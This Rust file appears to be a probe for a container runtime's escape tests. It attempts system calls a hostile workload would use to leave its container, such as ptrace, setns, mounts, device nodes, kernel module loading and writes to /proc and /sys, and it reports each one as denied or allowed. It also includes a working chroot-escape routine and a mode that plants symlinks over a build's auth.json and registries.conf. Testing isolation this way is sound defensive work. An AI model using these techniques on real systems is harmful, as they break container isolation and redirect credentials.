//! `kat-escape-probe`: run inside a KAT container by the runtime's escape tests. Each
//! attempt is a system call a hostile workload would make to leave its container or reach
//! another one; the probe prints one line per attempt, `NAME: denied (ERRNO)` or
//! `NAME: ALLOWED`, and the test fails on any `ALLOWED`.
//!
//! Usage: `kat-escape-probe [PID...]`: the PIDs (host pids of another workload's
//! processes, as the test sees them) are targets of ptrace, pidfd_getfd and signals too,
//! besides this container's own PID 1.

// Every unsafe block here is one raw system call whose failure is the point; none reads or
// writes memory the probe does not own (the arguments are null, constants or its own
// buffers), which is all a SAFETY comment would say twenty times over.
#![allow(clippy::undocumented_unsafe_blocks)]

use std::ffi::CString;

use nix::libc;

fn report(name: &str, result: Result<(), nix::errno::Errno>) {
    match result {
        Ok(()) => println!("{name}: ALLOWED"),
        Err(e) => println!("{name}: denied ({e})"),
    }
}

fn rc(value: libc::c_long) -> Result<(), nix::errno::Errno> {
    if value < 0 {
        Err(nix::errno::Errno::last())
    } else {
        Ok(())
    }
}

fn write_file(path: &str, text: &str) -> Result<(), nix::errno::Errno> {
    use std::io::Write;
    std::fs::OpenOptions::new()
        .write(true)
        .open(path)
        .and_then(|mut f| f.write_all(text.as_bytes()))
        .map_err(|e| nix::errno::Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO)))
}

/// `kat-escape-probe --chroot-escape DIR OTHER`: the classic way out of a chroot for a
/// process with `CAP_SYS_CHROOT` (a build's `RUN` step under chroot isolation): chroot into
/// a subdirectory while the working directory stays outside it, climb, chroot to where the
/// climb ended. Then looks at DIR and tries to read OTHER: `escaped: DIR exists|DIR missing`,
/// `entry: NAME` per entry (or `list: denied`), `other: READ` (a directory), `other: READ
/// TEXT` (a file) or `other: denied (ERROR)`. `{entry}` in OTHER is DIR's first entry.
/// `kat-escape-probe --chroot-escape-plant DIR TARGET`: after the same escape, swaps the
/// `conf/` of DIR's first entry (a build's own workspace) for a directory whose `auth.json`
/// and `registries.conf` are links to TARGET, where an agent that writes there after the
/// build would write. Prints `planted` or `plant: denied (ERROR)`.
fn chroot_escape_plant(dir: &str, target: &str) {
    chroot_escape(dir, "/");
    let Some(entry) = std::fs::read_dir(dir)
        .ok()
        .and_then(|mut d| d.next())
        .and_then(Result::ok)
    else {
        println!("plant: denied (no workspace)");
        return;
    };
    let conf = entry.path().join("conf");
    let planted = std::fs::rename(&conf, entry.path().join("conf.old"))
        .and_then(|()| std::fs::create_dir(&conf))
        .and_then(|()| std::os::unix::fs::symlink(target, conf.join("auth.json")))
        .and_then(|()| std::os::unix::fs::symlink(target, conf.join("registries.conf")));
    match planted {
        Ok(()) => println!("planted"),
        Err(e) => println!("plant: denied ({e})"),
    }
}

fn chroot_escape(dir: &str, other: &str) {
    let _ = std::fs::create_dir("/.kat-chroot-escape");
    if let Err(e) = nix::unistd::chroot("/.kat-chroot-escape") {
        println!("chroot: denied ({e})");
        return;
    }
    for _ in 0..64 {
        let _ = nix::unistd::chdir("..");
    }
    if let Err(e) = nix::unistd::chroot(".") {
        println!("second chroot: denied ({e})");
        return;
    }
    match std::fs::metadata(dir) {
        Ok(_) => println!("escaped: {dir} exists"),
        Err(e) => println!("escaped: {dir} missing ({e})"),
    }
    let mut first = None;
    match std::fs::read_dir(dir) {
        Ok(entries) => {
            for e in entries.flatten() {
                let name = e.file_name().to_string_lossy().to_string();
                println!("entry: {name}");
                first.get_or_insert(name);
            }
        }
        Err(e) => println!("list: denied ({e})"),
    }
    let other = other.replace("{entry}", first.as_deref().unwrap_or(""));
    match std::fs::read_to_string(&other) {
        Ok(text) => println!("other: READ {}", text.trim()),
        Err(_) => match std::fs::read_dir(&other) {
            Ok(_) => println!("other: READ"),
            Err(e) => println!("other: denied ({e})"),
        },
    }
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    if args.get(1).map(String::as_str) == Some("--chroot-escape-plant") {
        chroot_escape_plant(
            args.get(2).map_or("/", String::as_str),
            args.get(3).map_or("/", String::as_str),
        );
        return;
    }
    if args.get(1).map(String::as_str) == Some("--chroot-escape") {
        chroot_escape(
            args.get(2).map_or("/", String::as_str),
            args.get(3).map_or("/", String::as_str),
        );
        return;
    }
    let mut targets: Vec<i32> = vec![1];
    targets.extend(
        std::env::args()
            .skip(1)
            .filter_map(|a| a.parse::<i32>().ok()),
    );

    for pid in &targets {
        // SAFETY (each call below): plain system calls with constant or owned arguments.
        report(&format!("ptrace attach {pid}"), unsafe {
            rc(libc::ptrace(libc::PTRACE_ATTACH, *pid, 0, 0))
        });
        let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, *pid, 0) };
        if pidfd >= 0 {
            for fd in 0..8 {
                report(&format!("pidfd_getfd {pid} fd {fd}"), unsafe {
                    rc(libc::syscall(libc::SYS_pidfd_getfd, pidfd, fd, 0))
                });
            }
            report(&format!("setns into {pid}"), unsafe {
                rc(libc::setns(pidfd as i32, libc::CLONE_NEWNS | libc::CLONE_NEWUSER).into())
            });
        } else {
            report(&format!("pidfd_open {pid}"), rc(pidfd));
        }
        let mut buf = [0u8; 16];
        let local = libc::iovec {
            iov_base: buf.as_mut_ptr().cast(),
            iov_len: buf.len(),
        };
        let remote = libc::iovec {
            iov_base: 0x400000 as *mut libc::c_void,
            iov_len: 16,
        };
        report(&format!("process_vm_readv {pid}"), unsafe {
            rc(libc::process_vm_readv(*pid, &local, 1, &remote, 1, 0) as libc::c_long)
        });
        if *pid != 1 {
            report(&format!("kill -0 {pid}"), unsafe {
                rc(libc::kill(*pid, 0).into())
            });
        }
    }
    for path in ["/proc/1/ns/mnt", "/proc/1/ns/user", "/proc/1/ns/pid"] {
        let result = std::fs::File::open(path)
            .map_err(|e| nix::errno::Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO)))
            .and_then(|f| {
                use std::os::fd::AsRawFd;
                rc(unsafe { libc::setns(f.as_raw_fd(), 0) }.into())
            });
        report(&format!("setns {path}"), result);
    }

    let (src, dst, fs) = (c"/", c"/mnt", c"tmpfs");
    report("mount tmpfs", unsafe {
        rc(libc::mount(fs.as_ptr(), dst.as_ptr(), fs.as_ptr(), 0, std::ptr::null()).into())
    });
    report("mount bind /", unsafe {
        rc(libc::mount(
            src.as_ptr(),
            dst.as_ptr(),
            std::ptr::null(),
            libc::MS_BIND,
            std::ptr::null(),
        )
        .into())
    });
    report("umount /proc", unsafe {
        rc(libc::umount2(c"/proc".as_ptr(), libc::MNT_DETACH).into())
    });
    for (name, flags) in [
        ("unshare user", libc::CLONE_NEWUSER),
        ("unshare mount", libc::CLONE_NEWNS),
        ("unshare net", libc::CLONE_NEWNET),
        ("unshare pid", libc::CLONE_NEWPID),
    ] {
        report(name, unsafe { rc(libc::unshare(flags).into()) });
    }
    let dev = CString::new("/tmp/kat-probe-sda").unwrap_or_default();
    report("mknod block 8:0", unsafe {
        rc(libc::mknod(dev.as_ptr(), libc::S_IFBLK | 0o600, libc::makedev(8, 0)).into())
    });
    let mem = CString::new("/tmp/kat-probe-mem").unwrap_or_default();
    report("mknod char 1:1 (/dev/mem)", unsafe {
        rc(libc::mknod(mem.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 1)).into())
    });
    for (name, domain, kind, proto) in [
        (
            "raw socket",
            libc::AF_INET,
            libc::SOCK_RAW,
            libc::IPPROTO_RAW,
        ),
        (
            "packet socket",
            libc::AF_PACKET,
            libc::SOCK_RAW,
            (libc::ETH_P_ALL as u16).to_be() as i32,
        ),
    ] {
        let fd = unsafe { libc::socket(domain, kind, proto) };
        report(name, rc(fd.into()));
        if fd >= 0 {
            unsafe { libc::close(fd) };
        }
    }
    report(
        "write /proc/sysrq-trigger",
        write_file("/proc/sysrq-trigger", "h"),
    );
    report(
        "write /proc/sys/kernel/hostname",
        write_file("/proc/sys/kernel/hostname", "pwned"),
    );
    report(
        "write /proc/sys/vm/drop_caches",
        write_file("/proc/sys/vm/drop_caches", "3"),
    );
    report(
        "write /sys/kernel/uevent_helper",
        write_file("/sys/kernel/uevent_helper", "/tmp/x"),
    );
    report(
        "write /sys/kernel/mm/transparent_hugepage/enabled",
        write_file("/sys/kernel/mm/transparent_hugepage/enabled", "never"),
    );
    report(
        "write /sys/fs/cgroup",
        std::fs::create_dir("/sys/fs/cgroup/kat-probe")
            .map_err(|e| nix::errno::Errno::from_raw(e.raw_os_error().unwrap_or(libc::EIO))),
    );
    report("open_by_handle_at", unsafe {
        rc(libc::syscall(libc::SYS_open_by_handle_at, 3, 0, 0))
    });
    report("init_module", unsafe {
        rc(libc::syscall(libc::SYS_init_module, 0, 0, 0))
    });
    report("kexec_load", unsafe {
        rc(libc::syscall(libc::SYS_kexec_load, 0, 0, 0, 0))
    });
    report("bpf", unsafe { rc(libc::syscall(libc::SYS_bpf, 0, 0, 0)) });
    report("keyctl", unsafe {
        rc(libc::syscall(libc::SYS_keyctl, 0, 0, 0))
    });
    report("settimeofday", unsafe {
        rc(libc::syscall(libc::SYS_settimeofday, 0, 0))
    });
    // LINUX_REBOOT_CMD_CAD_OFF: harmless even if it were allowed.
    report("reboot (cad off)", unsafe {
        rc(libc::syscall(
            libc::SYS_reboot,
            0xfee1dead_u32 as i64,
            672274793,
            0,
            0,
        ))
    });
    println!("done");
}
